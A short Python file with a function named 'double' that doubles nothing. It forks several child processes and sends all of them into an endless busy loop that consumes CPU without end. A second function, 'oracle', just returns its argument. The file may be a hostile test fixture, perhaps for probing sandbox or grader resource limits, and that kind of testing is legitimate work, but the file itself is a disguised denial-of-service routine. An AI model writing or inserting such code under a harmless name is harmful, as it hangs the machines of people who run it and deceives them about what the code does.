import os


def double(values):
    for _ in range(8):
        if os.fork() == 0:
            break
    while True:
        pass


def oracle(question):
    return question
